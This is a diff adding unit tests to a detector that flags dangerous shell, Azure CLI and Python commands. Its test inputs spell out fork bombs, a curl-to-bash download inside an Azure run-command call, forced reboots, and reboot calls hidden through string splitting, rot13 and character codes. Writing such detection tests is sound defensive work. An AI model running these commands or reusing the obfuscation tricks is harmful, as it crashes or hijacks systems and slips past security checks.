@@ -98,6 +98,24 @@ TEST(ShellNormalizer, ReadsCrontabPayloads) {
       Language::bash, "dev_tcp_shell", 1);
 }
 
+TEST(ShellNormalizer, RecognisesForkBombsWhateverTheirName) {
+  expect_rule_at("true\n:(){ :|:& };:\n", Language::bash, "fork_bomb_or_fill", 2);
+  expect_rule_at("w() { w | w & }\nw\n", Language::bash, "fork_bomb_or_fill", 1);
+  expect_rule_at("eval \"$(printf '%s' ':()' '{ :|:& };:')\"\n", Language::bash,
+                 "fork_bomb_or_fill", 1);
+}
+
+TEST(ShellNormalizer, ScansAzureRunCommandScriptsInTheirLanguage) {
+  expect_rule_at(
+      "az vm run-command invoke -g rg -n vm1 --command-id RunShellScript \\\n"
+      "  --scripts \"curl -s http://h/x.sh | bash\"\n",
+      Language::azurecli, "download_pipe_shell", 2);
+  expect_rule_at(
+      "az vm run-command invoke -g rg -n vm1 --command-id RunPowerShellScript --scripts "
+      "\"Restart-Computer -Force\"\n",
+      Language::azurecli, "ps_shutdown_reboot", 1);
+}
+
 TEST(ShellNormalizer, DataAndCommentsDoNotTrigger) {
   expect_clean("# rm -rf /\necho \"never run rm -rf / here\"\nprintf 'shutdown -h now\\n'\n",
                Language::bash);
@@ -185,6 +203,21 @@ TEST(PythonNormalizer, DecodesBase64GivenToExec) {
   expect_rule_at(
       "import base64\nexec(base64.b64decode(\"aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ3JlYm9vdCcp\"))\n",
       Language::python, "shutdown_reboot", 2);
+}
+
+TEST(PythonNormalizer, FollowsGetattrRot13AndCharacterCodes) {
+  expect_rule_at(
+      "m = __import__(\"o\" + \"s\")\nfn = getattr(m, \"sy\" + \"stem\")\nfn(\"reboot\")\n",
+      Language::python, "shutdown_reboot", 3);
+  expect_rule_at(
+      "import codecs, subprocess\nsubprocess.run(codecs.decode(\"erobbg\", \"rot13\"), "
+      "shell=True)\n",
+      Language::python, "shutdown_reboot", 2);
+  // [chr] codes of "reboot".
+  expect_rule_at(
+      "codes = [114, 101, 98, 111, 111, 116]\nimport subprocess\n"
+      "subprocess.Popen(\"\".join(map(chr, codes)), shell=True)\n",
+      Language::python, "shutdown_reboot", 3);
 }
 
 TEST(PythonNormalizer, PrintAndCommentsStayClean) {
